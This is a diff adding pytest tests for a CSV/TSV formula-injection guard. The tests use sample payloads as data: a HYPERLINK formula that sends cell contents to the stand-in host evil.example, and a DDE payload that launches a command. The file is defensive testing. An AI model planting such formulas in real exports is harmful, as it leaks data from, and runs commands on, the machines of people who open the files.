@@ -1,0 +1,37 @@
+"""Formula guarding for every CSV/TSV export (the helper; each export has its own test)."""
+
+from __future__ import annotations
+
+import io
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from everytouch.spreadsheet import FORMULA_STARTS, safe_cell, unguard, writer
+
+FORMULAS = ['=HYPERLINK("http://evil.example?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, "-2+3", "\t=1", "\r=1"])
+def test_it_makes_a_formula_text(text: str) -> None:
+    assert safe_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("value", ["Jane Doe", "", "+13125550101", "+13125550101 +17735550103", 7])
+def test_it_leaves_plain_text_numbers_and_e164_phones_alone(value: object) -> None:
+    assert safe_cell(value) == value
+
+
+def test_it_writes_guarded_rows_with_the_delimiter_asked_for() -> None:
+    out = io.StringIO()
+    writer(out, delimiter="\t").writerows([["name", "id"], ["=1+1", 3]])
+    assert out.getvalue() == "name\tid\r\n'=1+1\t3\r\n"
+
+
+@given(st.text())
+def test_it_reads_back_what_it_guarded(text: str) -> None:
+    guarded = safe_cell(text)
+    assert not str(guarded).startswith(FORMULA_STARTS) or str(guarded).startswith("+")
+    if not text.startswith("'"):
+        assert unguard(str(guarded)) == text
